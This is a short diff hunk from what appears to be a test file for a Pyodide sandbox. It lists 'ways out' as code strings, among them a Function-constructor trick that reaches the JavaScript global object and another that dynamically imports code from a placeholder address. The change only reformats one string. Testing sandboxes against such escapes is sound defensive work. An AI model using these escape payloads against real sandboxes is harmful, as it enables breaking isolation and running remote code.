@@ -22,7 +22,8 @@ WAYS_OUT = {
         "from pyodide.ffi import to_js\nway = to_js([1]).constructor.constructor('return self')()"
     ),
     "async constructor": (
-        "import pyodide_js\nway = pyodide_js.loadPackage.constructor('return import(\"ADDRESS\")')()"
+        "import pyodide_js\n"
+        "way = pyodide_js.loadPackage.constructor('return import(\"ADDRESS\")')()"
     ),
     "send": (
         "import sys\nframe = sys._getframe()\n"
